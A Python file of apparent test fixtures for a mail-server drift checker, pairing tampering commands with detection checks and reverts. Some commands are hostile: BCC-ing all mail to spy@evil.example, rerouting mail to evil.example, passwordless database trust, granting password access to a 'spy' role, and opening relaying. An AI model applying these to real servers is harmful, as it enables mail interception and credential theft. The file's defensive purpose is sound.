"""What somebody may put beside ours on a built server: how it is done, how a run names it, and the check that sees it."""

from __future__ import annotations

from dataclasses import dataclass

SQL = "cd /; runuser -u postgres -- psql -qX mail -c"
HBA = "/etc/postgresql/*/main/pg_hba.conf"
CONF = "/etc/dovecot/dovecot.conf"
UNIT = "/etc/systemd/system/dovecot.service.d"


@dataclass(frozen=True)
class Drift:
    """What is done to the host, the words by which a run names it, the check that sees it, and what takes it away again."""

    done: str
    said: str
    seen: str
    back: str


def main(name: str, value: str = "") -> Drift:
    check = "postfix.restart.nothing_beside"
    return Drift(f"postconf -e '{name}={value}'", f"main.cf sets {name}", check, f"postconf -X {name}")


def override(name: str, value: str) -> Drift:
    check = "postfix.submission.nothing_beside"
    return Drift(f"postconf -P '{name}={value}'", f"an override {name}", check, f"postconf -PX {name}")


def hba(line: str, said: str) -> Drift:
    back = f"sed -i '\\|^{line}$|d' {HBA}"
    return Drift(f"sed -i '1i {line}' {HBA}", said, "postgresql.access.nothing_beside", back)


def sql(done: str, said: str, back: str, seen: str = "postgresql.tables.nothing_beside") -> Drift:
    return Drift(f'{SQL} "{done}"', said, seen, f'{SQL} "{back}"')


def dovecot(line: str, said: str) -> Drift:
    return Drift(f"echo '{line}' >>{CONF}", said, "dovecot.includes.nothing_beside", f"sed -i '\\|^{line}$|d' {CONF}")


def part(name: str) -> Drift:
    path = f"/etc/amavis/conf.d/{name}"
    return Drift(f"printf 'use strict;\\n1;\\n' >{path}", path, "amavis.amavis.nothing_beside", f"rm {path}")


NAMES = {
    "trust before ours": hba("local all nobody trust", "lets in without a password"),
    "the network at the database": hba(
        "host all all 192.0.2.0/24 scram-sha-256", "lets 192.0.2.0 connect to the database mail"
    ),
    "a map of Unix users": hba("local all all peer map=x", "maps Unix users"),
    "a setting at the end of dovecot.conf": dovecot(
        "auth_verbose_passwords = plain", ": auth_verbose_passwords is outside"
    ),
    "a passdb for everybody": dovecot(
        "!include_try /etc/dovecot/more.conf", "!include_try /etc/dovecot/more.conf is outside"
    ),
    "a copy of all mail": main("always_bcc", "spy@evil.example"),
    "a greeting that opens all": main("smtpd_helo_restrictions", "permit"),
    "a client who may all": main("smtpd_client_restrictions", "permit"),
    "another way out": main("sender_dependent_relayhost_maps", "inline:{@example.test=[evil.example]}"),
    "headers rewritten": main("header_checks", "regexp:/dev/null"),
    "who relays on 25": override("smtp/inet/smtpd_relay_restrictions", "permit"),
    "whoever submits": override("submission/inet/smtpd_client_restrictions", "permit"),
    "the way back open": override("127.0.0.1:10025/inet/smtpd_authorized_xclient_hosts", "0.0.0.0/0"),
    "the last hop": override("lmtp/unix/lmtp_header_checks", "regexp:/dev/null"),
    "another port": Drift(
        "postconf -M '127.0.0.1:2525/inet=127.0.0.1:2525 inet n - y - - smtpd -o smtpd_relay_restrictions=permit'",
        "a service 127.0.0.1:2525/inet",
        "postfix.submission.nothing_beside",
        "postconf -MX 127.0.0.1:2525/inet",
    ),
    "the last word to Amavis": part("99-late"),
    "a part before ours": part("55-early"),
    "a welcomed sender": Drift(
        "echo 'whitelist_from *@example.net' >>/etc/spamassassin/local.cf",
        "welcomes a sender",
        "amavis.amavis.nothing_beside",
        "sed -i '/^whitelist_from /d' /etc/spamassassin/local.cf",
    ),
    "another role's rights": sql(
        "CREATE ROLE spy; GRANT SELECT (password) ON users TO spy",
        "the role spy has rights on the table users",
        "REVOKE ALL ON users FROM spy; DROP ROLE spy",
    ),
    "a function with its owner's rights": sql(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'", "a function f", "DROP FUNCTION f"
    ),
    "default rights": sql(
        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
        "default rights for new tables",
        "ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM PUBLIC",
    ),
    "tables in the place of ours": sql(
        "CREATE SCHEMA mailreader CREATE TABLE users (x int)", "a table users", "DROP SCHEMA mailreader CASCADE"
    ),
    "a setting of the role's": sql(
        "ALTER ROLE mailreader SET statement_timeout = '60s'",
        "settings of its own for the role mailreader",
        "ALTER ROLE mailreader RESET ALL",
    ),
    "mail led away": sql(
        "UPDATE transports SET transport = 'smtp:[evil.example]:25'",
        "sends mail for example.test elsewhere",
        "UPDATE transports SET transport = 'lmtp:unix:private/dovecot-lmtp'",
        "postgresql.delivery.nothing_beside",
    ),
    "another program in a unit": Drift(
        f"mkdir -p {UNIT}; printf '[Service]\\nEnvironment=X=1\\n' >{UNIT}/x.conf",
        f"{UNIT}/x.conf overrules",
        "host.ports.nothing_beside",
        f"rm -r {UNIT}; systemctl daemon-reload",
    ),
}
